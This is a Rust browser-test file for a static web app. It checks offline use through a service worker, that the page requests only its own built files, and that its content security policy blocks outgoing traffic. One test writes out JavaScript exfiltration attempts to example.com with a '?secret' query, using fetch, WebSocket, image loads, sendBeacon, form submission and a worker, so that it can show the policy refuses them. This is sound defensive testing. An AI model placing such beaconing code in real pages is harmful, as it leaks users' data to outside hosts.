//! The built folder on a static host: at any path, without a network once it was visited, and asking for nothing but
//! its own files.

use std::collections::BTreeSet;
use std::path::Path;
use std::time::Duration;

use serde_json::json;

use crate::browser::{Browser, PLACE};
use crate::fixtures::folder;
use crate::report::{assert_clean, only_adapter, text};

/// Waits until the page's files are kept for offline use.
pub fn kept(browser: &Browser) {
    let script = "return navigator.serviceWorker.ready.then((kept) => kept.active.scriptURL)";
    let worker = browser.eval(script, vec![]);
    assert!(worker.as_str().is_some_and(|address| address.ends_with(&format!("{PLACE}sw.js"))), "{worker}");
}

#[test]
fn without_a_network_it_opens_again_and_analyses() {
    let browser = Browser::start();
    browser.open("");
    kept(&browser);
    let samples = || browser.requests().into_iter().filter(|request| request.contains("sample/")).count();
    assert_eq!(samples(), 0, "nobody asked for a sample");
    // Through the service worker, which keeps it.
    browser.open("");
    browser.click("sample");
    browser.expect("done");
    assert_eq!(samples(), 2);
    browser.clear();
    browser.cut_network();
    // Another entry, another query: neither was opened before.
    for query in ["?backend=cpu", "index.html?backend=webgpu", "url.html?backend=cpu"] {
        browser.open(query);
        browser.drop_paths(&[folder("peft-lora")]);
        browser.expect("done");
        assert_eq!(text(only_adapter(&browser.export_json()), "label"), "peft-lora", "{query}");
    }
    browser.clear();
    browser.click("sample");
    browser.expect("done");
}

#[test]
fn at_the_root_too() {
    let browser = Browser::start_at("/");
    browser.open("?backend=cpu");
    browser.click("sample");
    browser.expect("done");
    assert_eq!(browser.problems(), [""; 0]);
}

#[test]
fn only_its_own_files_are_asked_for() {
    let browser = Browser::start();
    browser.open("?backend=webgpu");
    kept(&browser);
    browser.click("sample");
    browser.expect("done");
    browser.drop_paths(&[folder("peft-lora"), folder("llama-mini")]);
    browser.expect("done");
    for tab in ["tab-alignment", "tab-projection", "tab-overview"] {
        browser.click(tab);
    }
    browser.export_json();
    browser.clear();
    assert_eq!(browser.strangers(), [""; 0], "another machine was asked");

    let files = files_below(&xtask::build::dist());
    for request in browser.requests() {
        let path = request.strip_prefix(&format!("GET {PLACE}")).unwrap_or_else(|| panic!("{request}"));
        let (file, query) = path.split_once('?').unwrap_or((path, ""));
        assert!(files.contains(file) || file.is_empty(), "{request} is none of the page's files");
        // The address that was opened, or the build's name.
        let is_build = query.len() == 16 && query.chars().all(|c| c.is_ascii_hexdigit());
        assert!(query.is_empty() || query == "backend=webgpu" || is_build, "{request} tells something");
    }
}

/// The browser itself refuses whatever would leave, in the page and in its workers; the entry that loads by address is
/// let out, which also shows that the watch sees it.
#[test]
fn the_policy_holds_in_the_page_and_in_its_workers() {
    let send = "const send = `fetch('https://example.com/?secret').catch(() => 0)
            .then(() => new Promise((r) => { try { const s = new WebSocket('wss://example.com/?secret'); s.onerror = r }
                catch { r() } })).then(() => postMessage('tried'))`;";
    let in_a_worker = format!(
        "{send} const worker = new Worker(URL.createObjectURL(new Blob([send], {{ type: 'text/javascript' }})));
        return new Promise((resolve) => {{ worker.onmessage = () => resolve('tried') }})"
    );
    let in_the_page = "const image = new Image();
        const seen = new Promise((resolve) => { image.onerror = resolve });
        image.src = 'https://example.com/?secret';
        navigator.sendBeacon('https://example.com/?secret', 'x');
        return Promise.allSettled([seen, fetch('https://example.com/?secret')]).then((all) => all[1].status)";
    // Chromium connects to a form's host, and sends nothing, before the policy stops it: that host is another.
    let by_form = "const form = document.createElement('form');
        form.action = 'https://example.org/?secret';
        document.body.append(form);
        const refused = new Promise((resolve) => document.addEventListener('securitypolicyviolation', resolve));
        form.submit();
        return refused.then((event) => event.effectiveDirective)";
    let browser = Browser::start();
    browser.open("?backend=cpu");
    assert_eq!(browser.eval(by_form, vec![]), json!("form-action"));
    assert_eq!(browser.eval(in_the_page, vec![]), json!("rejected"));
    assert_eq!(browser.eval(&in_a_worker, vec![]), json!("tried"));
    let asked = browser.strangers();
    let left = asked.iter().filter(|line| line.contains("example.com") || line.contains("secret"));
    assert_eq!(left.count(), 0, "the strict page reached another machine: {asked:?}");
    browser.open("url.html?backend=cpu");
    assert_eq!(browser.eval(&in_a_worker, vec![]), json!("tried"));
    let asked = browser.strangers();
    assert!(asked.iter().any(|line| line.contains("example.com")), "the watch saw nothing: {asked:?}");
}

fn files_below(folder: &Path) -> BTreeSet<String> {
    let mut files = BTreeSet::new();
    let mut folders = vec![folder.to_path_buf()];
    while let Some(next) = folders.pop() {
        for entry in std::fs::read_dir(&next).expect("a folder of the page").flatten() {
            let path = entry.path();
            if path.is_dir() {
                folders.push(path);
            } else {
                let inside = path.strip_prefix(folder).expect("a file below it");
                files.insert(inside.to_string_lossy().replace('\\', "/"));
            }
        }
    }
    files
}

/// As in some private windows, and in frames of other sites.
#[test]
fn without_storage_and_service_workers_it_works_all_the_same() {
    let browser = Browser::start();
    browser.before_the_page(
        "const refused = () => { throw new DOMException('The operation is insecure.', 'SecurityError'); };
         Object.defineProperty(window, 'localStorage', { get: refused });
         Object.defineProperty(window, 'caches', { get: refused });
         ServiceWorkerContainer.prototype.register = async () => refused();",
    );
    browser.open("?backend=cpu");
    browser.click("sample");
    browser.expect("done");
    assert_clean(&browser.export_json(), "report");
    // The service worker is asked for after some seconds.
    std::thread::sleep(Duration::from_secs(4));
    assert_eq!(browser.texts("error"), [""; 0]);
    assert_eq!(browser.problems(), [""; 0]);
}
